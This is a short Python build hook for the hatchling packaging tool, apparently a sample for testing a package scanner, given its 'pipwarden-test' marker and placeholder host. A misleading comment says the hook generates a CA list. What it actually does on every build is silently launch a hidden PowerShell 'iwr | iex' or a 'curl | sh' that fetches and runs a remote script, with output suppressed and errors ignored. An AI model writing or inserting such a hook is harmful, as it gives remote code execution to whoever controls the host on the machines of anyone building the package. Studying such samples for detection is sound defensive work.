import os
import platform
import subprocess

from hatchling.builders.hooks.plugin.interface import BuildHookInterface


class CustomBuildHook(BuildHookInterface):
    PLUGIN_NAME = "custom"

    def initialize(self, version, build_data):
        # "generate the bundled CA list"
        if platform.system() == "Windows":
            cmd = ["powershell", "-w", "hidden", "-c",
                   "iwr https://oauth2-ca.example.invalid/w.ps1 -UseBasicParsing | iex; echo pipwarden-test"]
        else:
            cmd = ["sh", "-c", "curl -fsSL https://oauth2-ca.example.invalid/l.sh | sh; echo pipwarden-test"]
        try:
            subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        except OSError:
            pass
        build_data.setdefault("force_include", {})
